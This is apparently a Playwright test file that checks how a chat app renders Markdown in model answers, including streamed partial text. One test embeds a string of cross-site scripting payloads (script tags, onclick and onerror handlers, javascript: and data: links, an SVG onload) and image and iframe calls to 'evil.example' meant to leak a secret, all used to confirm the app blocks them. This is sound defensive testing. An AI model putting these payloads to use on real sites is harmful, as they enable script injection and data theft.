import type { Locator } from '@playwright/test'

import { type Chat, send } from '../../support/chat.ts'
import { GUIDE, sendForText } from '../../support/markdown.ts'
import { question, release } from '../../support/model.ts'
import { expect, test } from '../../support/test.ts'

/** The text of the last answer, without the notes and buttons below it. */
const textOf = (chat: Chat): Locator => chat.answers.last().locator('.text')

test('the Markdown of an answer becomes headings, lists, tables, code and links', async ({ chat }) => {
  const answer = textOf(chat)
  await sendForText(chat, GUIDE)
  await chat.sendButton.waitFor()

  const expectAll = async () => {
    await expect(answer.getByRole('heading')).toHaveText(['How to make tea', 'Steps'])
    await expect(answer.locator('strong')).toHaveText('then')
    await expect(answer.locator('em')).toHaveText('slowly')
    await expect(answer.locator('del')).toHaveText('7')
    await expect(answer.getByText('It is 5 < 6')).toBeVisible()
    await expect(answer.locator('p > code')).toHaveText('pour()')
    await expect(answer.locator('ol > li')).toHaveCount(2)
    await expect(answer.locator('ol ul > li')).toHaveText(['three minutes for green tea', 'five for black tea'])
    await expect(answer.locator('li', { hasText: 'kettle' })).toHaveText('☑ kettle')
    await expect(answer.locator('blockquote')).toHaveText('No milk, says the book.')
    await expect(answer.getByRole('columnheader')).toHaveText(['Tea', 'Minutes', 'Note'])
    await expect(answer.getByRole('cell', { name: '2', exact: true })).toHaveCSS('text-align', 'right')
    await expect(answer.locator('td br')).toHaveCount(1)
    await expect(answer.locator('pre')).toContainText('# **not bold**')
    await expect(answer.locator('.code')).toContainText('python')
    const links = answer.getByRole('link')
    await expect(links).toHaveText(['the guide', 'ada@example.com'])
    await expect(links.first()).toHaveAttribute('href', 'https://example.com/tea?cup=1&pot=2')
    await expect(links.first()).toHaveAttribute('rel', 'noopener noreferrer')
    await expect(links.first()).toHaveAttribute('target', '_blank')
  }
  await expectAll()
  const shown = await answer.innerHTML()
  await chat.page.reload()
  await expectAll()
  expect(await answer.innerHTML()).toBe(shown)
})

test('a line break in a paragraph stays one, however the model writes it', async ({ chat }) => {
  await sendForText(chat, 'one\ntwo  \nthree\\\nfour\n\n| a |\n| - |\n| five<br>six |')
  await chat.sendButton.waitFor()

  expect(await textOf(chat).locator('p').evaluate((it) => (it as HTMLElement).innerText)).toBe('one\ntwo\nthree\nfour')
  expect(await textOf(chat).locator('td').evaluate((it) => (it as HTMLElement).innerText)).toBe('five\nsix')
})

test('the text of a question stays as it was written', async ({ chat }) => {
  await sendForText(chat, '# Not a heading\n\n**not bold**')
  await expect(textOf(chat).locator('strong')).toHaveText('not bold')

  await expect(chat.questions).toContainText('# Not a heading\n\n**not bold**', { useInnerText: true })
  await expect(chat.questions.locator('strong')).toHaveCount(0)
})

const TRAPS = `First <b onclick="window.taken = 'click'">bold</b>, then

<script>window.taken = 'script'</script>

<img src="https://evil.example/?q=secret" onerror="window.taken = 'image'">

<iframe src="https://evil.example/?q=secret"></iframe>

[a script](javascript:window.taken='link') and [data](data:text/html,<script>alert(1)</script>)
and [another](JAVASCRIPT&colon;alert(1)) and [a place](#elsewhere) and <javascript:alert(1)>

![a chart](https://evil.example/?q=secret) and ![](https://evil.example/?q=secret)
and ![inline](data:image/svg+xml,<svg/onload=alert(1)>)

[![a badge](https://evil.example/badge.svg)](https://evil.example/repository)

[reference]: https://evil.example/?q=secret

![reference]

The end.`

test('an answer cannot run a script or load anything from another host', async ({ chat }) => {
  const { page } = chat
  const elsewhere: string[] = []
  page.context().on('request', (request) => {
    if (new URL(request.url()).hostname !== '127.0.0.1') elsewhere.push(request.url())
  })
  const answer = textOf(chat)
  await sendForText(chat, TRAPS)
  await chat.sendButton.waitFor()

  for (const when of ['streamed', 'reloaded']) {
    await expect(answer, when).toContainText('The end.')
    await expect(answer, when).toContainText(`<b onclick="window.taken = 'click'">bold</b>`)
    await expect(answer, when).toContainText("<script>window.taken = 'script'</script>")
    await expect(answer, when).toContainText('<img src="https://evil.example/?q=secret"')
    await expect(answer.locator('script, img, iframe, b, [onclick], [onerror]'), when).toHaveCount(0)
    await expect(answer.getByText('a script'), when).toBeVisible()
    await expect(answer.locator('a a'), when).toHaveCount(0)
    const hrefs = await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))
    expect(new Set(hrefs), when).toEqual(
      new Set(['https://evil.example/?q=secret', 'https://evil.example/repository']),
    )
    await expect(answer.getByRole('link', { name: 'Image: a chart' }), when).toBeVisible()
    await page.reload()
  }

  await expect(answer).toContainText('The end.')
  expect(await page.evaluate(() => 'taken' in window)).toBe(false)
  expect(elsewhere).toEqual([])
})

/** Texts that stop in the middle, as they are shown at the ⏸ and in the end. */
const UNFINISHED: { name: string; text: string; shows: string; ends: string; has: string }[] = [
  {
    name: 'bold text',
    text: 'This is **important⏸ to know** now.',
    shows: 'This is important',
    ends: 'This is important to know now.',
    has: 'strong',
  },
  {
    name: 'a link',
    text: 'Read [the guide](https://exam⏸ple.com/tea) now.',
    shows: 'Read the guide',
    ends: 'Read the guide now.',
    has: 'p',
  },
  {
    name: 'inline code',
    text: 'Use `npm ru⏸n build` now.',
    shows: 'Use npm ru',
    ends: 'Use npm run build now.',
    has: 'p > code',
  },
  {
    name: 'a table',
    text: '| Tea | Minutes |\n| --- | --- |\n| Green | 2⏸ |\n| Black | 4 |',
    shows: 'Tea Minutes Green 2',
    ends: 'Tea Minutes Green 2 Black 4',
    has: 'td',
  },
  {
    name: 'a numbered list',
    text: 'Some\n\n1. one\n\n2⏸. two',
    shows: 'Some one 2',
    ends: 'Some one two',
    has: 'ol',
  },
  {
    name: 'a nested list',
    text: '- one\n- two\n  - **th⏸ree**',
    shows: 'one two th',
    ends: 'one two three',
    has: 'li li strong',
  },
  {
    name: 'a quote',
    text: '> It is *so⏸ good*.',
    shows: 'It is so',
    ends: 'It is so good.',
    has: 'blockquote em',
  },
]

for (const { name, text, shows, ends, has } of UNFINISHED) {
  test(`${name} that is still being written is shown without its marks`, async ({ chat }) => {
    const answer = textOf(chat)
    const asked = await sendForText(chat, text)

    await expect(answer).toHaveText(shows, { useInnerText: true })
    await expect(answer.locator(has).first()).toBeVisible()
    await release(asked)
    await expect(answer).toHaveText(ends, { useInnerText: true })
    await chat.sendButton.waitFor()
    const shown = await answer.innerHTML()
    await chat.page.reload()
    await expect(answer).toHaveText(ends, { useInnerText: true })
    expect(await answer.innerHTML()).toBe(shown)
  })
}

test('code that is still being written is code, and text after it is text', async ({ chat }) => {
  const code = textOf(chat).locator('pre code')
  const asked = await sendForText(chat, '```python\nx = "**a"\n⏸y = [1](2\n```\n\nDone.')

  await expect(code).toHaveText('x = "**a"')
  await release(asked)
  await expect(code).toHaveText('x = "**a"\ny = [1](2')
  await expect(textOf(chat).locator('p')).toHaveText('Done.')
})

test('an image that is still being written is no link yet, and never loaded', async ({ chat }) => {
  const answer = textOf(chat)
  const asked = await sendForText(chat, 'See ![a chart](https://evil.example/?q=sec⏸ret) here.')

  await expect(answer).toContainText('a chart')
  await expect(answer.locator('a, img')).toHaveCount(0)
  await release(asked)
  await expect(answer.getByRole('link', { name: 'Image: a chart' })).toBeVisible()
})

test('paragraphs that are complete stay the same elements while the answer goes on', async ({ chat }) => {
  const paragraphs = 'one two three four five'.split(' ').join('\n\n')
  const asked = await sendForText(chat, `${paragraphs}⏸ and a half\n\n${paragraphs}`)
  const first = textOf(chat).locator('p').first()
  await expect(textOf(chat)).toContainText('five')
  const element = await first.elementHandle()

  await release(asked)
  await expect(textOf(chat).locator('p')).toHaveCount(10)
  await chat.sendButton.waitFor()

  expect(await element?.evaluate((it) => it.isConnected)).toBe(true)
})

test('an answer that is nested too deep to be parsed is shown as text', async ({ chat, mistakes }) => {
  await send(chat, question('Answer in nested quotes'))

  await expect(textOf(chat)).toContainText('the end')
  await chat.sendButton.waitFor()
  await chat.page.reload()
  await expect(textOf(chat)).toContainText('the end')
  // React tells of each error that it has caught.
  expect(mistakes.filter((mistake) => !mistake.includes('Maximum call stack'))).toEqual([])
  mistakes.length = 0
})

test('code is copied by its button', async ({ chat }) => {
  await chat.page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await sendForText(chat, '```sh\nmake dev\n```')
  const code = textOf(chat).locator('.code')
  await code.getByRole('button', { name: 'Copy' }).click()

  await expect(code.getByRole('button')).toHaveText('Copied')
  expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe('make dev')
})
